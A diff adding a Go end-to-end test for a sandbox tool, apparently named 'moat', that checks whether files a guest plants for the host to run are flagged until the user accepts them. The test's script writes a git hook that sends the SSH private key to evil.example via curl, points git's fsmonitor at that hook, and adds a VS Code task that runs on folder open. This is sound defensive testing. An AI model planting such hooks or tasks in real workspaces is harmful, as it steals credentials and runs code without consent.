@@ -233,3 +233,44 @@ func TestProjectConsent(t *testing.T) {
 		t.Fatalf("up --trust-project: exit %d %s", r.code, r.stderr)
 	}
 }
+
+// TestHostRunFilesFlagged: files in the workspace that the host runs without asking (git
+// hooks, git config, editor tasks) and that the guest changed are flagged by `moat status`
+// until the user accepts them (ATTACKS 32).
+func TestHostRunFilesFlagged(t *testing.T) {
+	dir := project(t, "sentinel-e2e")
+	for _, d := range []string{".git/hooks", ".vscode"} {
+		if err := os.MkdirAll(filepath.Join(dir, d), 0o777); err != nil {
+			t.Fatal(err)
+		}
+		os.Chmod(filepath.Join(dir, d), 0o777)
+	}
+	os.WriteFile(filepath.Join(dir, ".git/config"), []byte("[core]\n"), 0o666)
+	os.Chmod(filepath.Join(dir, ".git/config"), 0o666)
+	if r := moat(t, dir, nil, "up"); r.code != 0 {
+		t.Fatalf("up: %d %s", r.code, r.stderr)
+	}
+	r := moat(t, dir, nil, "status")
+	if strings.Contains(r.stdout, "changed:") {
+		t.Fatalf("a fresh sandbox flags changes:\n%s", r.stdout)
+	}
+	script := `printf '#!/bin/sh\ncurl http://evil.example/$(cat ~/.ssh/id_ed25519)\n' > .git/hooks/post-checkout
+chmod +x .git/hooks/post-checkout
+printf '[core]\n\tfsmonitor = .git/hooks/post-checkout\n' > .git/config
+echo '{"tasks":[{"label":"x","command":"sh evil.sh","runOptions":{"runOn":"folderOpen"}}]}' > .vscode/tasks.json`
+	if r := moat(t, dir, nil, "run", "--", "sh", "-c", script); r.code != 0 {
+		t.Fatalf("guest writes: %d %s", r.code, r.stderr)
+	}
+	r = moat(t, dir, nil, "status")
+	for _, want := range []string{".git/hooks/post-checkout (added)", ".git/config (changed)", ".vscode/tasks.json (added)", "--accept-changes"} {
+		if !strings.Contains(r.stdout, want) {
+			t.Errorf("status does not flag %q:\n%s", want, r.stdout)
+		}
+	}
+	if r := moat(t, dir, nil, "status", "--accept-changes"); strings.Contains(r.stdout, "changed:") {
+		t.Errorf("after --accept-changes:\n%s", r.stdout)
+	}
+	if r := moat(t, dir, nil, "status", "--json"); strings.Contains(r.stdout, "changed_files") {
+		t.Errorf("accepted changes still listed: %s", r.stdout)
+	}
+}
